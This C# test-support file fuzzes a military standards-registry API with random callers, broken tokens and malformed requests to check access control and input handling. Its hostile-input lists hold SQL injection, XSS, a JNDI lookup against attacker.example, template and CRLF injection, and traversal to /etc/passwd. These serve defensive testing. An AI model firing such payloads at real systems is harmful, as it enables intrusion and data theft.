using System.Globalization;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using StandardsRegistry.Domain;

namespace StandardsRegistry.Api.Tests.Support;

/// <summary>What a route's body is made of, when it has one.</summary>
public enum BodyShape
{
    None,
    Standard,
    Draft,
    Reason,
    Release,
    Subscription,
    Redeliver,
    Response,
    Preferred,
    Target,
    Table,
}

/// <summary>
/// One route of the API as the random-request property knows it: method, path template (<c>{key}</c>,
/// <c>{edition}</c>, <c>{audience}</c>, <c>{id}</c>), the query parameters it reads, its body, and which catalogue target it
/// addresses (so the oracle can say what the caller may see there).
/// </summary>
/// <param name="History">The route answers history (the change feed, the export): what was visible once may appear there, so
/// the oracle judges it against what the caller could never have seen rather than what it sees now.</param>
public sealed record RouteShape(string Name, HttpMethod Method, string Template, string[] Query, BodyShape Body = BodyShape.None, bool History = false)
{
    public bool IsWrite => Method != HttpMethod.Get;

    /// <summary>A read of one standard (or its editions) named by <c>{key}</c>: hidden means 404.</summary>
    public bool ReadsStandard => !IsWrite && Template.Contains("{key}", StringComparison.Ordinal);

    /// <summary>A read of one edition named by <c>{key}</c> and <c>{edition}</c>: hidden means 404.</summary>
    public bool ReadsVersion => !IsWrite && Template.Contains("{edition}", StringComparison.Ordinal);

    public override string ToString() => Name;
}

/// <summary>Who sends a random request: a valid principal (with its oracle view), anonymous, or a broken token.</summary>
public sealed record RandomPrincipal(string Name, string? Token, Principal? Principal)
{
    /// <summary>A token that must be refused (401) everywhere: it sees nothing.</summary>
    public bool IsBroken => Principal is null;

    public override string ToString() => Name;
}

/// <summary>One generated request, kept whole so a failure can be replayed and read.</summary>
public sealed record RandomRequest(
    RouteShape Route, RandomPrincipal Caller, string Key, string Edition, string Audience, string Url,
    IReadOnlyList<(string Name, string Value)> Headers, byte[]? Body, string? ContentType)
{
    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(Route.Method, Url);
        if (Caller.Token is not null)
        {
            message.Headers.TryAddWithoutValidation("Authorization", $"Bearer {Caller.Token}");
        }
        foreach (var (name, value) in Headers)
        {
            message.Headers.TryAddWithoutValidation(name, value);
        }
        if (Body is not null)
        {
            message.Content = new ByteArrayContent(Body);
            if (ContentType is not null)
            {
                message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }
        }
        return message;
    }

    /// <summary>Everything the caller sent, as text: an error may echo it back without leaking anything.</summary>
    public string SentText => Url + "\n" + string.Join("\n", Headers.Select(h => h.Value)) + "\n" + (Body is null ? "" : Encoding.UTF8.GetString(Body));

    public override string ToString()
    {
        var body = Body is null ? "" : " body " + RegistryExchange.Clip(Encoding.UTF8.GetString(Body), 300);
        var headers = Headers.Count == 0 ? "" : " headers " + string.Join("; ", Headers.Select(h => $"{h.Name}: {RegistryExchange.Clip(h.Value, 80)}"));
        return $"{Route.Method} {RegistryExchange.Clip(Url, 300)} as {Caller} ({Route}){headers}{body}";
    }
}

internal static class RegistryExchange
{
    public static string Clip(string text, int max) => Exchange.Clip(text, max);
}

/// <summary>
/// Random requests across every route of the API: random principals (every community, clearance and role, anonymous,
/// broken tokens), random keys and editions (the catalogue's, absent ones, hostile text), random query values, headers
/// and bodies (valid, hostile, malformed). The routes are the application's own endpoints (<see cref="RoutesOf"/>), so
/// a new route is sent random requests as soon as <see cref="Shapes"/> says what it reads.
/// </summary>
public sealed class RandomRequests(CatalogueModel model, IReadOnlyList<RouteShape> routes)
{
    /// <summary>
    /// What the property knows of each route beyond its method and path, by endpoint name (or method and pattern): the
    /// query parameters it reads, its body, and whether it answers history.
    /// </summary>
    private static readonly Dictionary<string, (string[] Query, BodyShape Body, bool History)> Shapes = new(StringComparer.Ordinal)
    {
        ["ListStandards"] = (["category", "q", "limit", "cursor", "covers", "overlaps", "boreMm", "boreMm.min", "lowMHz.max", "dataRateKbps"], BodyShape.None, false),
        ["GetStandard"] = ([], BodyShape.None, false),
        ["ListVersions"] = (["limit", "cursor"], BodyShape.None, false),
        ["GetLatestVersion"] = ([], BodyShape.None, false),
        ["GetVersion"] = ([], BodyShape.None, false),
        ["GetVersionLabel"] = ([], BodyShape.None, false),
        ["ListReleases"] = ([], BodyShape.None, false),
        ["CreateStandard"] = ([], BodyShape.Standard, false),
        ["CreateDraft"] = ([], BodyShape.Draft, false),
        ["UpdateDraft"] = ([], BodyShape.Draft, false),
        ["PublishVersion"] = ([], BodyShape.None, false),
        ["WithdrawVersion"] = ([], BodyShape.Reason, false),
        ["ReleaseVersion"] = ([], BodyShape.Release, false),
        ["RevokeRelease"] = (["reason"], BodyShape.None, false),
        ["GetFeed"] = (["limit", "cursor"], BodyShape.None, true),
        ["ExportCatalogue"] = ([], BodyShape.None, true),
        ["CreateSubscription"] = ([], BodyShape.Subscription, false),
        ["ListSubscriptions"] = ([], BodyShape.None, false),
        ["GetSubscription"] = ([], BodyShape.None, false),
        ["PauseSubscription"] = ([], BodyShape.None, false),
        ["ResumeSubscription"] = ([], BodyShape.None, false),
        ["RedeliverSubscription"] = ([], BodyShape.Redeliver, false),
        ["DeleteSubscription"] = ([], BodyShape.None, false),
        ["GetResponseMatrix"] = ([], BodyShape.None, false),
        ["GetResponseHistory"] = ([], BodyShape.None, false),
        ["GetResponseLabel"] = ([], BodyShape.None, false),
        ["RecordResponse"] = ([], BodyShape.Response, false),
        ["ReleaseResponse"] = ([], BodyShape.Reason, false),
        ["RevokeResponseRelease"] = ([], BodyShape.None, false),
        ["ListResponses"] = (["nation", "response", "limit", "cursor"], BodyShape.None, false),
        ["GetRelations"] = ([], BodyShape.None, false),
        ["GetCurrentDocument"] = ([], BodyShape.None, false),
        ["AddRelation"] = ([], BodyShape.None, false),
        ["RemoveRelation"] = ([], BodyShape.None, false),
        ["AddEquivalent"] = ([], BodyShape.None, false),
        ["RemoveEquivalent"] = ([], BodyShape.None, false),
        ["MarkPreferred"] = ([], BodyShape.Preferred, false),
        ["UnmarkPreferred"] = ([], BodyShape.None, false),
        ["ListCapabilityTargets"] = ([], BodyShape.None, false),
        ["PreviewCapabilityTable"] = (["audience"], BodyShape.None, false),
        ["RecordCapabilityTarget"] = ([], BodyShape.Target, false),
        ["ListCapabilityTables"] = ([], BodyShape.None, false),
        ["GetCapabilityTable"] = (["format"], BodyShape.None, false),
        ["GetCapabilityTableLabel"] = ([], BodyShape.None, false),
        ["PublishCapabilityTable"] = ([], BodyShape.Table, false),
        ["RevokeCapabilityTable"] = ([], BodyShape.None, false),
        ["GET /health/live"] = ([], BodyShape.None, false),
        ["GET /health/ready"] = ([], BodyShape.None, false),
    };

    /// <summary>The application's routes this property does not send, with why.</summary>
    private static readonly Dictionary<string, string> NotSent = new(StringComparer.Ordinal)
    {
        ["ListAuditEntries"] = "the audit trail names everything that happened, hidden or not, to admins cleared to COSMIC TOP SECRET only; AuditTests and AuthTests judge it",
        ["VerifyAuditTrail"] = "the audit trail's hash chain, for the same admins; AuditTests judge it",
        ["GET /openapi/{documentName}.json"] = "the same document for every caller; OpenApiDocumentTests compare it with the committed one",
    };

    /// <summary>
    /// Every route of the running application (its endpoints), shaped for the property. A route this class does not know
    /// fails the test, naming it: add it to <see cref="Shapes"/> (or to <see cref="NotSent"/>, with why).
    /// </summary>
    public static IReadOnlyList<RouteShape> RoutesOf(IServiceProvider services)
    {
        var routes = new List<RouteShape>();
        foreach (var route in AppRoutes.Of(services))
        {
            var name = route.Name ?? $"{route.Method} {route.Pattern}";
            if (NotSent.ContainsKey(name))
            {
                continue;
            }
            if (!Shapes.TryGetValue(name, out var shape))
            {
                throw new Xunit.Sdk.XunitException(
                    $"The route {route.Method} {route.Pattern} ({name}) is new to the random-request property: add its query, body and history to RandomRequests.Shapes.");
            }
            routes.Add(new RouteShape(name, new HttpMethod(route.Method), AppRoutes.Url(route, parameter => $"{{{parameter}}}").TrimEnd('/'), shape.Query, shape.Body, shape.History));
        }
        var gone = Shapes.Keys.Except(routes.Select(r => r.Name)).ToList();
        Assert.True(gone.Count == 0, $"RandomRequests.Shapes names routes the application does not have: {string.Join(", ", gone)}");
        return routes;
    }

    /// <summary>Text that has broken other systems: SQL, traversal, look-alikes, control and odd Unicode, templates, sizes.</summary>
    public static IReadOnlyList<string> Hostile { get; } =
    [
        .. BadInputTests.SqlText.Select(row => row.Data),
        .. BadInputTests.LookAlikeKeys.Select(row => row.Data),
        "", " ", "\t", "\0", "\u0007", "\u007f", "\u202Egnp.exe", "\uFEFF", "\uFFFD", "\uD800", "😀", "null", "true", "-0", "NaN", "1e309",
        "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%s%s%n", "\r\nX-Injected: 1", "%", "_", "*", "?", "#", "&",
        new string('x', 300), new string('é', 5000), "NATO SECRET", "COSMIC TOP SECRET", "TRÈS SECRET UE/EU TOP SECRET", "EU", "PUBLIC", "NATO",
    ];

    /// <summary>Already percent-encoded path segments: undecodable bytes and encoded traversal.</summary>
    private static readonly string[] RawSegments = ["%FF", "%C0%AF", "%ED%A0%80", "%2e%2e", "..%2F..%2Fetc%2Fpasswd", "%25", "%2F"];

    private static readonly string[] Spellings =
    [
        .. Enum.GetValues<Classification>().SelectMany(c => new[] { c.ToString(), Markings.Of(c).NatoMarking, Markings.Of(c).EuMarking }.OfType<string>()),
    ];

    private readonly Dictionary<string, string> _tokens = new(StringComparer.Ordinal);

    public Gen<RandomRequest> Request() =>
        from route in Gen.Elements(routes.ToArray())
        from caller in route.IsWrite ? Gen.Frequency((3, Writer()), (4, Caller())) : Caller()
        from key in Key()
        from edition in Edition()
        from audience in AudienceText()
        from id in Id()
        from nation in NationText()
        from query in Query(route)
        from headers in Headers()
        from body in Body(route, CategoryOf(key.Raw))
        select Build(route, caller, key, edition, audience, id, nation, query, headers, body);

    /// <summary>The category of a catalogue key (so a draft's attributes can fit it), or a random one.</summary>
    private string? CategoryOf(string key) => model.Standards.FirstOrDefault(s => s.Key == key)?.Category;

    private RandomRequest Build(RouteShape route, RandomPrincipal caller, (string Raw, string Segment) key, (string Raw, string Segment) edition,
        (string Raw, string Segment) audience, (string Raw, string Segment) id, (string Raw, string Segment) nation, string query, IReadOnlyList<(string, string)> headers,
        (byte[]? Bytes, string? ContentType) body)
    {
        var path = route.Template.Replace("{key}", key.Segment, StringComparison.Ordinal)
            .Replace("{edition}", edition.Segment, StringComparison.Ordinal)
            .Replace("{audience}", audience.Segment, StringComparison.Ordinal)
            .Replace("{id}", id.Segment, StringComparison.Ordinal)
            .Replace("{nation}", nation.Segment, StringComparison.Ordinal)
            // Relations aim from one catalogue key to another (or hostile text); civil sources real or not.
            .Replace("{kind}", key.Raw.Length % 4 == 0 ? "obeys" : new[] { "covers", "supersedes", "references" }[key.Raw.Length % 3], StringComparison.Ordinal)
            .Replace("{target}", edition.Raw == "1" ? key.Segment : Uri.EscapeDataString(model.Standards[edition.Raw.Length % model.Standards.Count].Key), StringComparison.Ordinal)
            .Replace("{source}", audience.Raw == "EU" ? "ISO" : audience.Segment, StringComparison.Ordinal)
            .Replace("{identifier}", id.Segment, StringComparison.Ordinal)
            // Capability targets: cycles and horizons from the edition and id values (years when those are small
            // numbers, else their hostile text), capabilities of the catalogue or not.
            .Replace("{cycle}", Year(edition, 2024), StringComparison.Ordinal)
            .Replace("{horizon}", Year(id, 2025), StringComparison.Ordinal)
            .Replace("{capability}", model.Standards.Any(s => s.Key == key.Raw) ? Capabilities[key.Raw.Length % Capabilities.Length] : key.Segment, StringComparison.Ordinal);
        return new RandomRequest(route, caller, key.Raw, edition.Raw, audience.Raw, path + query, headers, body.Bytes, body.ContentType);
    }

    private static readonly string[] Capabilities = ["ammo-155mm", "ammo-120mm", "gbad-battery", "radio-vhf", "radio-hf", "no-such-capability"];

    private static string Year((string Raw, string Segment) value, int before) =>
        int.TryParse(value.Raw, NumberStyles.None, CultureInfo.InvariantCulture, out var n) && n is > 0 and < 10 ? (before + n).ToString(CultureInfo.InvariantCulture) : value.Segment;

    // ---------------------------------------------------------------- principals

    private Gen<RandomPrincipal> Caller() => Gen.Frequency(
        (8, Gen.Elements(TestPrincipal.All.ToArray()).Select(p => p.Caller is null ? Anonymous : Valid(p.Name, p.Caller, p.Principal))),
        (6, RandomMember()),
        (2, Gen.Constant(Anonymous)),
        (2, Gen.Elements(AuthTests.BrokenTokens.Select(row => row.Data).ToArray()).Select(kind => Broken($"broken token: {kind}", () => AuthTests.Broken(kind)))),
        (1, Gen.Elements(AuthTests.UnsoundClaims.Select(row => row.Data).ToArray()).Select(kind => Broken($"unsound claims: {kind}", () => Tokens.Create(AuthTests.Unsound(kind))))));

    private static readonly RandomPrincipal Anonymous = new("anonymous", null, Principal.Anonymous);

    /// <summary>Writers, so that some random writes succeed and the property runs on a catalogue that changes under it.</summary>
    private Gen<RandomPrincipal> Writer() => Gen.Elements(
        Valid(TestPrincipal.NatoEditor.Name, TestPrincipal.NatoEditor.Caller!, TestPrincipal.NatoEditor.Principal),
        Member(Communities.Nato, "NC", [Roles.Editor, Roles.ReleaseAuthority], "dave"),
        Member(Communities.Nato, "CTS", [Roles.ReleaseAuthority], "erin"),
        Member(Communities.Nato, "CTS", [Roles.Admin], "frank"),
        Member(Communities.Nato, "NS", [Roles.Planner], "gina"));

    private Gen<RandomPrincipal> RandomMember() =>
        from community in Gen.Elements(Communities.Nato, "EU", Communities.Public)
        from clearance in Gen.Frequency((1, Gen.Constant<string?>(null)), (4, Gen.Elements(Spellings).Select(s => (string?)s)))
        from roles in Gen.SubListOf([.. Roles.All, "Editor"])
        from subject in Gen.Elements("alice", "bob", "carol")
        select Member(community, clearance, [.. roles], subject);

    private RandomPrincipal Member(string community, string? clearance, string[] roles, string subject)
    {
        var caller = new TestCaller($"{subject}@{community.ToLowerInvariant()}", community, clearance, roles);
        var principal = TestPrincipal.Of($"{community} {clearance ?? "no clearance"} [{string.Join(",", roles)}]", caller);
        return Valid(principal.Name, caller, principal.Principal);
    }

    private RandomPrincipal Valid(string name, TestCaller caller, Principal principal) => new(name, Cached(name, caller.Token), principal);

    private RandomPrincipal Broken(string name, Func<string> token) => new(name, Cached(name, token), null);

    /// <summary>One token per principal for the whole run: signing thousands would cost more than the requests.</summary>
    private string Cached(string name, Func<string> token)
    {
        lock (_tokens)
        {
            if (!_tokens.TryGetValue(name, out var value))
            {
                _tokens[name] = value = token();
            }
            return value;
        }
    }

    // ---------------------------------------------------------------- route values

    private Gen<(string Raw, string Segment)> Key() => Gen.Frequency(
        (8, Gen.Elements(model.Standards.Select(s => s.Key).ToArray()).Select(PathValue)),
        (1, Gen.Elements("stanag-0000", "never-existed", "a").Select(PathValue)),
        (2, Gen.Elements(Hostile.Where(h => !h.Contains('\0', StringComparison.Ordinal)).ToArray()).Select(PathValue)),
        (1, Gen.Elements(RawSegments).Select(raw => (raw, raw))));

    private static Gen<(string Raw, string Segment)> Edition() => Gen.Frequency(
        (8, Gen.Choose(1, 6).Select(e => PathValue(e.ToString(CultureInfo.InvariantCulture)))),
        (2, Gen.Elements("0", "-1", "2147483647", "2147483648", "99999999999", "latest", "1.0", "01", "+1", " 1", "١").Select(PathValue)),
        (1, Gen.Elements(Hostile.Where(h => !h.Contains('\0', StringComparison.Ordinal)).ToArray()).Select(PathValue)),
        (1, Gen.Elements(RawSegments).Select(raw => (raw, raw))));

    private static Gen<(string Raw, string Segment)> AudienceText() => Gen.Frequency(
        (6, Gen.Elements("EU", "PUBLIC").Select(PathValue)),
        (2, Gen.Elements("NATO", "eu", "INDUSTRY", "ЕU", "EU ").Select(PathValue)),
        (1, Gen.Elements(Hostile.Where(h => !h.Contains('\0', StringComparison.Ordinal)).ToArray()).Select(PathValue)));

    /// <summary>Nation codes: members, one that is not, wrong shapes, hostile text.</summary>
    private static Gen<(string Raw, string Segment)> NationText() => Gen.Frequency(
        (6, Gen.Elements("FRA", "DEU", "POL", "USA").Select(PathValue)),
        (2, Gen.Elements("XXX", "fra", "FR", "FRAN", "ÉSP").Select(PathValue)),
        (1, Gen.Elements(Hostile.Where(h => !h.Contains('\0', StringComparison.Ordinal)).ToArray()).Select(PathValue)));

    /// <summary>Subscription ids: small numbers, absent ones, hostile text.</summary>
    private static Gen<(string Raw, string Segment)> Id() => Gen.Frequency(
        (4, Gen.Choose(1, 5).Select(i => PathValue(i.ToString(CultureInfo.InvariantCulture)))),
        (1, Gen.Elements("0", "-1", "99999999999999999999", Guid.Empty.ToString()).Select(PathValue)),
        (1, Gen.Elements(Hostile.Where(h => !h.Contains('\0', StringComparison.Ordinal)).ToArray()).Select(PathValue)),
        (1, Gen.Elements(RawSegments).Select(raw => (raw, raw))));

    private static (string Raw, string Segment) PathValue(string raw) => (raw, Uri.EscapeDataString(raw));

    // ---------------------------------------------------------------- query strings

    private Gen<string> Query(RouteShape route)
    {
        var names = route.Query.Length == 0 ? Gen.Constant(Array.Empty<string>()) : Gen.SubListOf(route.Query).Select(l => l.ToArray());
        return from chosen in names
               from values in Gen.CollectToArray(chosen, QueryValue)
               from extra in Gen.Frequency((12, Gen.Constant("")), (1, Gen.Elements("&limit=1&limit=2", "&x=%FF", "&unknown=1", "&q=a&q=b", "&%00=1")))
               select chosen.Length == 0 && extra.Length == 0
                   ? ""
                   : "?" + string.Join("&", chosen.Zip(values, (n, v) => $"{n}={Uri.EscapeDataString(v)}")) + extra;
    }

    private Gen<string> QueryValue(string name) => name switch
    {
        "limit" => Gen.Frequency((4, Gen.Choose(1, 100).Select(i => i.ToString(CultureInfo.InvariantCulture))), (1, Gen.Elements("0", "-1", "101", "2147483648", "x", "", "1.5")), (1, HostileText())),
        "cursor" => Gen.Frequency(
            (3, Gen.Elements(model.Standards.Select(s => s.Key).ToArray()).Select(k => Cursor("standards:" + k))),
            (2, Gen.Choose(0, 6).Select(e => Cursor("versions:" + e.ToString(CultureInfo.InvariantCulture)))),
            (1, HostileText().Select(h => Cursor("standards:" + h))),
            (1, HostileText())),
        "format" => Gen.Frequency((3, Gen.Elements("json", "csv")), (1, Gen.Elements("CSV", "xml", "")), (1, HostileText())),
        "audience" => Gen.Frequency((3, Gen.Elements("INDUSTRY", "EU", "PUBLIC")), (1, Gen.Elements("NATO", "industry")), (1, HostileText())),
        "nation" => Gen.Frequency((3, Gen.Elements("FRA", "DEU", "XXX")), (1, Gen.Elements("fra", "FR")), (1, HostileText())),
        "response" => Gen.Frequency((3, Gen.Elements(Enum.GetValues<ResponseKind>().Select(EnumText.Of).ToArray())), (1, Gen.Elements("Ratified", "ratified ")), (1, HostileText())),
        "category" => Gen.Frequency((3, Gen.Elements(Categories.All.ToArray())), (1, HostileText())),
        // Attribute search: values the test catalogue's attributes meet (RegistryClient.AttributesFor), others, and bad ones.
        "covers" or "boreMm" or "boreMm.min" or "lowMHz.max" or "dataRateKbps" => Gen.Frequency(
            (4, Gen.Elements("300", "225", "400", "5.56", "5", "115.2", "1e3", "0", "-1")),
            (1, Gen.Elements("x", "NaN", "Infinity", "1e400", "", "1,2")),
            (1, HostileText())),
        "overlaps" => Gen.Frequency((4, Gen.Elements("225,400", "3,30", "399.5,1000", "0,1e9")), (1, Gen.Elements("400,225", "1", "a,b", ",", "1,2,3")), (1, HostileText())),
        // Search terms include tokens of hidden titles: a hidden edition must neither match nor show.
        "q" => Gen.Frequency(
            (4, Gen.Elements(model.Versions.Select(v => v.Token).Concat(model.Standards.Select(s => s.Token)).ToArray())),
            (2, Gen.Elements("edition", "Cartridge", "Band", "STANAG", "stanag-", "tk", "%", "_")),
            (1, HostileText())),
        _ => Gen.Frequency((2, Gen.Elements("Needed.", "Obsolete.")), (1, HostileText())),
    };

    private static string Cursor(string position) => System.Buffers.Text.Base64Url.EncodeToString(Encoding.UTF8.GetBytes(position));

    private static Gen<string> HostileText() => Gen.Elements(Hostile.ToArray());

    // ---------------------------------------------------------------- headers

    private static Gen<IReadOnlyList<(string Name, string Value)>> Headers()
    {
        var ifMatch = Gen.Elements("*", "\"x\"", "W/\"x\"", "\"\"", "garbage", "\"a\", \"b\"", "\"' OR '1'='1\"");
        var accept = Gen.Elements("application/json", "application/xml", "application/problem+json", "text/html", "*/*", "application/json;q=0, application/xml;q=0", "garbage/");
        var ifNoneMatch = Gen.Elements("*", "\"x\"", "W/\"x\"", "garbage");
        var one = Gen.Frequency(
            (3, ifMatch.Select(v => ("If-Match", v))),
            (3, accept.Select(v => ("Accept", v))),
            (2, ifNoneMatch.Select(v => ("If-None-Match", v))),
            (1, HostileText().Select(v => ("X-Forwarded-For", HeaderSafe(v)))),
            (1, HostileText().Select(v => ("Accept-Language", HeaderSafe(v)))),
            (1, Gen.Constant(("X-Filler", new string('h', 20 * 1024)))),
            (8, Gen.Constant(("X-Nothing", "1"))));
        return Gen.Frequency(
            (6, Gen.Constant<IReadOnlyList<(string, string)>>([])),
            (2, Gen.Choose(1, 3).SelectMany(n => Gen.ArrayOf(one, n)).Select(a => (IReadOnlyList<(string, string)>)a)));
    }

    /// <summary>What an HTTP client can put in a header at all (no line breaks or NUL); the rest of the text stays.</summary>
    private static string HeaderSafe(string value) => new([.. value.Where(c => c is not ('\r' or '\n' or '\0') && c < 0x7f)]);

    // ---------------------------------------------------------------- bodies

    private static readonly string[] RawBodies =
    [
        "", "null", "[]", "\"text\"", "{", "{}", "{\"a\":", "{'key':'x'}", "not json", new string('[', 5000), new string('{', 5000),
        "{\"title\":\"\\uD800\"}", "{\"key\":\"a\",\"key\":\"b\"}", "\uFEFF{}", "{\"reason\":" + new string('9', 5000) + "}",
    ];

    private Gen<(byte[]? Bytes, string? ContentType)> Body(RouteShape route, string? category)
    {
        var json = route.Body switch
        {
            BodyShape.Standard => StandardBody(),
            BodyShape.Draft => DraftBody(category),
            BodyShape.Reason => ReasonBody(),
            BodyShape.Release => ReleaseBody(),
            BodyShape.Subscription => SubscriptionBody(),
            BodyShape.Redeliver => RedeliverBody(),
            BodyShape.Response => ResponseBody(),
            BodyShape.Target => TargetBody(),
            BodyShape.Table => Field(Gen.Elements(Spellings)).Select(c => (JsonObject?)Object(("classification", c))),
            BodyShape.Preferred => Field(Gen.Elements("Civil standard preferred.", "")).Select(r => (JsonObject?)Object(("rationale", r))),
            _ => Gen.Constant<JsonObject?>(null),
        };
        var contentType = Gen.Frequency((8, Gen.Constant<string?>("application/json")), (1, Gen.Elements<string?>("text/plain", "application/xml", "application/json; charset=latin1", null)));
        var structured = from body in json
                         from type in contentType
                         select (body is null ? null : Encoding.UTF8.GetBytes(body.ToJsonString()), body is null ? null : type);
        var raw = from text in Gen.Elements(RawBodies)
                  from type in contentType
                  select ((byte[]?)Encoding.UTF8.GetBytes(text), type);
        var invalidUtf8 = Gen.Elements("FF", "C0AF", "EDA080", "E282").Select(hex =>
            ((byte[]?)[.. Encoding.UTF8.GetBytes("{\"title\":\"a"), .. Convert.FromHexString(hex), .. Encoding.UTF8.GetBytes("\"}")], (string?)"application/json"));
        return route.Body == BodyShape.None
            ? Gen.Frequency((8, Gen.Constant<(byte[]?, string?)>((null, null))), (1, raw))
            : Gen.Frequency((8, structured), (2, raw), (1, invalidUtf8));
    }

    /// <summary>A field: valid most of the time, else hostile, absent (null) or of another JSON type.</summary>
    private static Gen<JsonNode?> Field(Gen<string> valid) => Gen.Frequency(
        (6, valid.Select(v => (JsonNode?)JsonValue.Create(v))),
        (2, HostileText().Select(v => (JsonNode?)JsonValue.Create(v))),
        (1, Gen.Constant<JsonNode?>(null)),
        (1, Gen.Elements<JsonNode?>(JsonValue.Create(5), JsonValue.Create(true), new JsonArray("x"), new JsonObject { ["a"] = 1 })));

    private static JsonObject Object(params (string Name, JsonNode? Value)[] fields)
    {
        var json = new JsonObject();
        foreach (var (name, value) in fields.Where(f => f.Value is not null))
        {
            json[name] = value!.DeepClone();
        }
        return json;
    }

    private static Gen<JsonObject?> StandardBody() =>
        from n in Gen.Choose(1000, 99999)
        from key in Field(Gen.Constant($"random-{n}"))
        // A designation of its own: two standards may not share one (docs/design.md §1.1).
        from designation in Field(Gen.Constant($"RANDOM {n}"))
        from category in Field(Gen.Elements(Categories.All.ToArray()))
        from title in Field(Gen.Elements("A random standard", "Another"))
        from extra in Gen.Frequency((9, Gen.Constant<JsonNode?>(null)), (1, Gen.Constant<JsonNode?>(JsonValue.Create("x"))))
        select (JsonObject?)Object(("key", key), ("designation", designation), ("category", category), ("title", title), ("status", extra));

    private static Gen<JsonObject?> DraftBody(string? fits) =>
        from title in Field(Gen.Elements("A random edition", "Changed"))
        from summary in Field(Gen.Constant("A summary."))
        from body in Field(Gen.Constant("The body."))
        from classification in Field(Gen.Elements(Spellings))
        from category in fits is null ? Gen.Elements(Categories.All.ToArray()) : Gen.Frequency((3, Gen.Constant(fits)), (1, Gen.Elements(Categories.All.ToArray())))
        from attributes in Gen.Frequency(
            (6, Gen.Constant<JsonNode?>(JsonNode.Parse(System.Text.Json.JsonSerializer.Serialize(RegistryClient.AttributesFor(category))))),
            (1, Gen.Elements<JsonNode?>(null, new JsonObject(), new JsonArray(1, 2), new JsonObject { ["boreMm"] = -1, ["x"] = "y" })))
        select (JsonObject?)Object(("title", title), ("summary", summary), ("body", body), ("classification", classification), ("attributes", attributes));

    private static Gen<JsonObject?> ReasonBody() =>
        Field(Gen.Elements("Obsolete.", "Replaced.")).Select(reason => (JsonObject?)Object(("reason", reason)));

    /// <summary>No host is allowed in the tests' settings: a subscription is refused before anything is delivered anywhere.</summary>
    private static Gen<JsonObject?> SubscriptionBody() =>
        from audience in Field(Gen.Elements("EU", "PUBLIC", "NATO"))
        from url in Field(Gen.Elements("https://hooks.example/registry", "http://127.0.0.1:1/x", "file:///etc/passwd", "https://user:pw@hooks.example/", "javascript:alert(1)"))
        from secret in Field(Gen.Elements("0123456789abcdef0123", "short"))
        select (JsonObject?)Object(("audience", audience), ("url", url), ("secret", secret));

    private static Gen<JsonObject?> RedeliverBody() =>
        Gen.Elements<JsonNode?>(JsonValue.Create(1), JsonValue.Create(0), JsonValue.Create(-5), JsonValue.Create(long.MaxValue), JsonValue.Create("1"), null)
            .Select(from => (JsonObject?)Object(("fromSequence", from)));

    private static Gen<JsonObject?> ResponseBody() =>
        from response in Field(Gen.Elements([.. Enum.GetValues<ResponseKind>().Select(EnumText.Of), "Ratified"]))
        from reservation in Gen.Frequency((2, Gen.Constant<JsonNode?>(null)), (1, Field(Gen.Constant("Except annex B."))))
        from intended in Gen.Frequency((3, Gen.Constant<JsonNode?>(null)), (1, Gen.Elements<JsonNode?>(JsonValue.Create("2027-01-31"), JsonValue.Create("2027-02-30"), JsonValue.Create("soon"), JsonValue.Create(5))))
        from classification in Field(Gen.Elements(Spellings))
        select (JsonObject?)Object(("response", response), ("reservation", reservation), ("intendedImplementation", intended), ("classification", classification));

    private static Gen<JsonObject?> TargetBody() =>
        from quantity in Gen.Frequency(
            (6, Gen.Choose(0, 100_000).Select(q => (JsonNode?)JsonValue.Create(q))),
            (1, Gen.Elements<JsonNode?>(JsonValue.Create(-1), JsonValue.Create(1.5), JsonValue.Create("12"), JsonValue.Create(long.MaxValue), JsonValue.Create(1e300), null)))
        from classification in Field(Gen.Elements(Spellings))
        select (JsonObject?)Object(("quantity", quantity), ("classification", classification));

    private static Gen<JsonObject?> ReleaseBody() =>
        from reason in Field(Gen.Elements("Needed.", "For planning."))
        from effectiveFrom in Gen.Frequency(
            (4, Gen.Constant<JsonNode?>(null)),
            (1, Gen.Elements<JsonNode?>(JsonValue.Create("2999-01-01T00:00:00Z"), JsonValue.Create("2000-01-01T00:00:00Z"), JsonValue.Create("tomorrow"), JsonValue.Create(12345))))
        select (JsonObject?)Object(("reason", reason), ("effectiveFrom", effectiveFrom));
}
